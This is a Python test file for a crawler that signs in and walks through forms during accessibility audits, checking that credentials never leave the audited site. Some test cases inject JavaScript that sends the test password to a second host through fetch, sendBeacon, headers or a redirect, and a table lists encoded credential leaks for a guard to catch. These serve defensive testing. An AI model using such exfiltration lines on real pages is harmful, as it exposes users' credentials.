"""Journeys: scripts that sign in and walk through forms, on real servers, and where their credentials may go."""

import base64
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, quote

import pytest
from kept import bytes_of

from crawler.credentials import Credentials
from crawler.network import Network
from handrail.config import ConfigError, parse_policy

USER, PASSWORD = "walker-of-tests", "p4ss/w&rd+of tests"
AUTHORIZED = '[sites.main.authorization]\nby = "A. Tester"\non = 2026-11-02\nscope = "all"\n'


def page(title, body):
    return f'<!doctype html><html lang="en"><title>{title}</title><main><h1>{title}</h1>{body}</main></html>'


class Service(ThreadingHTTPServer):
    """Sign-in and a form of two steps; remembers what it was sent."""

    def __init__(self):
        super().__init__(("127.0.0.1", 0), Handler)
        self.got = []
        self.extra = {}
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def root(self):
        return f"http://127.0.0.1:{self.server_port}"


class Handler(BaseHTTPRequestHandler):
    def log_message(self, *arguments):
        pass

    def answer(self, status, text="", **headers):
        self.send_response(status)
        for name, value in {"Content-Type": "text/html", "Content-Length": str(len(text.encode())), **headers}.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()
        self.wfile.write(text.encode())

    def do_GET(self):
        self.server.got.append((self.path, str(self.headers), ""))
        signed_in = "session=yes" in self.headers.get("Cookie", "")
        path = self.path.partition("?")[0]
        if path == "/leak":
            to = self.path.partition("?to=")[2]
            return self.answer(307, Location=f"{to}/?q={quote(PASSWORD, safe='')}")
        if path in self.server.extra:
            return self.answer(200, self.server.extra[path])
        if path == "/":
            return self.answer(200, page("Home", "<p>Welcome to the City.</p>"))
        if path == "/login":
            form = (
                '<form method="post" action="/login"><label>User <input name="u"></label>'
                '<label>Password <input name="p" type="password"></label><button>Go</button></form>'
            )
            return self.answer(200, page("Sign in", form))
        if path in ("/apply", "/apply/2"):
            if not signed_in:
                return self.answer(302, Location="/login")
            body = (
                f'<nav><a class="account" href="/me">{USER}</a></nav><p>Step {path[-1]}.</p><img src="/x.png">'
                '<form method="post" action="/apply"><label>Name <input name="n"></label><button>Next</button></form>'
            )
            return self.answer(200, page(f"Apply {path}", body))
        return self.answer(404, page("Not found", "<p>Nothing.</p>"))

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0))).decode()
        self.server.got.append((self.path, str(self.headers), body))
        if self.path == "/login":
            sent = parse_qs(body)
            if (sent.get("u"), sent.get("p")) != ([USER], [PASSWORD]):
                return self.answer(303, Location="/login")
            return self.answer(303, Location="/apply", Set_Cookie="session=yes; Path=/")
        return self.answer(303, Location="/apply/2")


@pytest.fixture
def city():
    server = Service()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def elsewhere():
    server = Service()
    yield server
    server.shutdown()
    server.server_close()


SIGN_IN = """
    await page.goto("ROOT/login")
    await page.fill("[name=u]", secret("APPLY_USER"))
    await page.fill("[name=p]", secret("APPLY_PASSWORD"))
    await page.click("button")
"""
WALK = f"""
async def journey(page, audit, secret):
{SIGN_IN}
    await audit("The first step")
    await page.fill("[name=n]", "A name")
    await page.click("button")
    await audit("Contact details")
"""
DRIVEN = """
from selenium.webdriver.common.by import By

def journey(driver, audit, secret):
    driver.get("ROOT/login")
    driver.find_element(By.NAME, "u").send_keys(secret("APPLY_USER"))
    driver.find_element(By.NAME, "p").send_keys(secret("APPLY_PASSWORD"))
    driver.find_element(By.TAG_NAME, "button").click()
    audit("The first step")
    driver.find_element(By.NAME, "n").send_keys("A name")
    driver.find_element(By.TAG_NAME, "button").click()
    audit("Contact details")
"""


@pytest.fixture
def walk(audit, city, tmp_path, monkeypatch):
    """Audit the service with this script; the call."""
    monkeypatch.setenv("HANDRAIL_JOURNEY_APPLY_USER", USER)
    monkeypatch.setenv("HANDRAIL_JOURNEY_APPLY_PASSWORD", PASSWORD)

    def start(script, more="", authorization=AUTHORIZED):
        (tmp_path / "apply.py").write_text(script.replace("ROOT", city.root), "utf-8")
        config = tmp_path / "handrail.toml"
        config.write_text(
            f'[sites.main]\nstart = ["{city.root}/"]\nsitemaps = false\n{authorization}'
            '[sites.main.journeys.apply]\nscript = "apply.py"\nsigned_in = "nav .account"\n'
            f'secrets = ["APPLY_USER", "APPLY_PASSWORD"]\n{more}\n',
            "utf-8",
        )
        return audit(tmp_path / "out", "-c", config)

    return start


def pages(call):
    """Address after the host -> (outcome, reason), of the last run."""
    with call.store() as store:
        found = list(store.page_outcomes(store.latest_run().id, "main"))
    return {one.url.partition("//")[2].partition("/")[2]: (str(one.outcome), one.reason or "") for one in found}


def written(call):
    return (
        b"\n".join(bytes_of(path) for path in call.out.rglob("*") if path.is_file()) + (call.said + call.told).encode()
    )


def forms(value):
    return {value, quote(value, safe=""), base64.b64encode(value.encode()).decode()}


@pytest.mark.browser
@pytest.mark.parametrize(("kind", "script"), [("playwright", WALK), ("selenium", DRIVEN)])
def test_every_step_is_a_page_of_the_run_and_no_credential_is_kept(walk, kind, script):
    call = walk(script, f'kind = "{kind}"')

    found = pages(call)
    assert call.code == 0, found
    assert found["apply#journey:apply/1-the-first-step"][0] == "audited", found
    assert found["apply/2#journey:apply/2-contact-details"][0] == "audited"
    assert [line for line in call.lines if line.get("rule") == "axe/image-alt" and "#journey" in str(line)]
    kept = written(call)
    assert not [form for value in (USER, PASSWORD) for form in forms(value) if form.encode() in kept]


@pytest.mark.browser
def test_a_step_that_leads_on_by_itself_is_followed(walk, city):
    moments = (1, 30, 80, 150)
    for ms in moments:
        city.extra[f"/through-{ms}"] = page(
            "Please wait", f"<script>setTimeout(() => location = '/apply', {ms})</script>"
        )
    steps = "".join(f'    await page.goto("ROOT/through-{ms}")\n    await audit("After {ms}")\n' for ms in moments)

    call = walk(f"async def journey(page, audit, secret):\n{SIGN_IN}{steps}")

    found = pages(call)
    assert call.code == 0, found
    for number, ms in enumerate(moments, 1):
        assert found[f"apply#journey:apply/{number}-after-{ms}"][0] == "audited", found


@pytest.mark.browser
@pytest.mark.parametrize(
    ("after", "outcome", "reason"),
    [
        ("    raise ValueError(secret('APPLY_PASSWORD'))", "failed", "raised ValueError"),
        ("    import asyncio; await asyncio.sleep(60)", "hung", "not done within"),
        ("    await page.goto('ELSEWHERE/')", "redirect-off-scope", "out of the site"),
        ("    await page.evaluate(\"fetch('/leak?to=ELSEWHERE', {mode: 'no-cors'})\")", "failed", "credential"),
        ("    await page.context.clear_cookies(); await page.goto('ROOT/apply'); await audit('x')",
         "sign-in", "session"),
        ("    await page.evaluate(\"fetch('ELSEWHERE/?q=' + encodeURIComponent('VALUE'))\")", "failed", "credential"),
        ("    await page.evaluate(\"navigator.sendBeacon('ELSEWHERE/b', btoa('x' + 'VALUE'))\")\n    await audit('x')",
         "failed", "credential"),
        ("    await page.evaluate(\"fetch('ELSEWHERE/', {mode: 'no-cors', headers: {Accept: 'VALUE'}})\")",
         "failed", "credential"),
    ],
)  # fmt: skip
def test_a_journey_that_fails_says_why_and_harms_no_other_page(walk, elsewhere, after, outcome, reason):
    script = f"async def journey(page, audit, secret):\n{SIGN_IN}{after}\n    await page.wait_for_timeout(3000)\n"
    script = script.replace("ELSEWHERE", elsewhere.root).replace("VALUE", PASSWORD)

    call = walk(script, f"seconds = {6 if outcome == 'hung' else 60}")

    assert call.code == 3
    found = pages(call)
    assert found["#journey:apply"][0] == outcome, found
    assert reason in found["#journey:apply"][1]
    assert found[""][0] == "audited"
    assert "journey-failed" in call.record("main").reasons
    assert not [one for one in elsewhere.got if any(form in str(one) for form in forms(PASSWORD))]
    assert PASSWORD.encode() not in written(call)


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda patch, walk: patch.delenv("HANDRAIL_JOURNEY_APPLY_USER"), "HANDRAIL_JOURNEY_APPLY_USER is not set"),
        (lambda patch, walk: patch.setenv("HANDRAIL_JOURNEY_APPLY_USER", "abc"), "at least 4 characters"),
    ],
)
def test_a_missing_credential_is_told_and_nothing_is_audited(walk, monkeypatch, change, said):
    change(monkeypatch, walk)

    call = walk(WALK)

    assert call.code == 2
    assert said in call.told
    assert "sites.main.journeys.apply" in call.told


@pytest.mark.parametrize(
    ("script", "more", "said"),
    [
        ("x = 1", "", "has no journey"),
        ("def journey(page, audit, secret): pass", "", "write async def journey"),
        ("async def journey(page, audit, secret): pass", 'kind = "selenium"', "write def journey"),
        ("def journey(:", "", "apply.py:1: is not Python"),
    ],
)
def test_a_script_that_cannot_be_a_journey_is_told(walk, script, more, said):
    call = walk(script, more)

    assert call.code == 2
    assert said in call.told


def test_a_journey_needs_an_authorization(walk):
    call = walk(WALK, authorization="")

    assert call.code == 2
    assert "authorization" in call.told


def test_the_name_of_a_credential_is_one_of_a_variable():
    with pytest.raises(ConfigError, match="capital letters"):
        parse_policy(
            "[sites.a]\nstart = ['https://a.example/']\n[sites.a.authorization]\nby = 'x'\n"
            "on = 2026-11-02\nscope = 'x'\n"
            "[sites.a.journeys.j]\nscript = 'j.py'\nsecrets = ['apply user']"
        )


GUARD = Credentials((USER, PASSWORD), Network(own=frozenset({"https://city.example"})))


@pytest.mark.parametrize(
    ("url", "headers", "body", "goes"),
    [
        ("https://city.example/login", {}, PASSWORD, True),
        ("https://other.example/", {}, "", True),
        ("https://other.example/?q=walker", {}, "", True),
        ("https://other.example/?q=p4ss", {}, "p4ss/w", True),
        ("https://other.example/?q=" + base64.b64encode(b"walker of other tests").decode(), {}, "", True),
        ("https://city.example.other.example/login", {}, PASSWORD, False),
        ("http://city.example/login", {}, PASSWORD, False),  # readable on the way
        ("https://other.example/?u=" + USER.upper(), {}, "", False),
        ("https://other.example/?p=" + quote(PASSWORD, safe=""), {}, "", False),
        ("https://other.example/?p=" + quote(quote(PASSWORD, safe=""), safe=""), {}, "", False),
        ("https://other.example/", {"A": "Basic " + base64.b64encode(f"{USER}:x".encode()).decode()}, "", False),
        ("https://other.example/", {"Referer": f"https://city.example/?u={USER}"}, "", False),
        ("https://other.example/", {}, base64.b64encode(b"ab" + PASSWORD.encode()).decode(), False),
        ("https://other.example/", {}, base64.urlsafe_b64encode(b"a" + PASSWORD.encode()).decode(), False),
        ("https://other.example/", {}, "p=p4ss%2Fw%26rd%2Bof+tests", False),
        ("https://other.example/", {}, r'{"p": "p4ss\/w\u0026rd+of tests"}', False),
    ],
)  # fmt: skip
def test_a_credential_is_known_in_whatever_way_it_is_sent(url, headers, body, goes):
    told = {"url": url, "headers": headers, "postData": body}

    assert GUARD.may_go(told) is goes


def test_a_body_that_cannot_be_read_goes_to_the_site_alone():
    assert not GUARD.may_go({"url": "https://other.example/", "hasPostData": True})
    assert GUARD.may_go({"url": "https://city.example/", "hasPostData": True})
